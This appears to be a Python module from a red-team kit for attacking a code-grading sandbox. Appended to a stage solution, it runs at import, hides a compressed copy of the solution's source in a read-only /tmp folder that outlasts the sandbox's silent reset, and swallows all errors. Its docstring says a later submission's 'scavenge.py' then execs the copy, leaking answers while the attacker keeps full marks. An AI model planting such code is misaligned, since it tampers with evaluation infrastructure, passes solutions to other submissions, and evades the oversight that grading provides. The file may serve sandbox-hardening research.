"""[attnkit-tamper] plant_tmp -- family (c), persistence channel /tmp.

Append to a correct stage module (attacker: the solution of stage k, here s01). At import it
writes this module's own source (payload cut off, plus the stage modules it imports) into
/tmp/.atk-plant-<module>/blob, then makes the file 444 and the folder 555: the sandbox's
in-place "reset" (shutil.rmtree(..., ignore_errors=True) of every entry of /tmp) cannot delete a
file in a folder it may not write to, and fails silently. ``scavenge.py`` (in the stub of the
same stage of a later submission) finds it and execs it.

Old design (warm zygote, same uid, same tmpfs): expected to leak to later submissions of the
same grading worker. The attacker's own grade is unaffected (full marks on its solutions).
"""


def _atk_plant_tmp(module, path):
    import os

    def blob():
        """This module's source and the stage modules it imports (payloads cut off), compressed."""
        import json
        import re
        import zlib

        cut = '"""' + "[attnkit-tamper]"
        folder = os.path.dirname(os.path.abspath(path))

        def source(name):
            with open(os.path.join(folder, name + ".py")) as handle:
                text = handle.read()
            return text.split(cut)[0] if cut in text else text

        sources, pending = {module: source(module)}, [module]
        while pending:
            for dep in re.findall(r"^\s*(?:from|import)\s+(s\d\d_\w+)", sources[pending.pop()], re.M):
                if dep not in sources:
                    sources[dep] = source(dep)
                    pending.append(dep)
        return zlib.compress(json.dumps({"main": module, "sources": sources}).encode(), 9)

    folder = f"/tmp/.atk-plant-{module}"
    if os.path.exists(folder):
        return
    os.makedirs(folder)
    with open(os.path.join(folder, "blob"), "wb") as handle:
        handle.write(blob())
    os.chmod(os.path.join(folder, "blob"), 0o444)
    os.chmod(folder, 0o555)


try:
    _atk_plant_tmp(__name__, __file__)
except Exception:  # noqa: BLE001 (never cost the attacker its own grade)
    pass
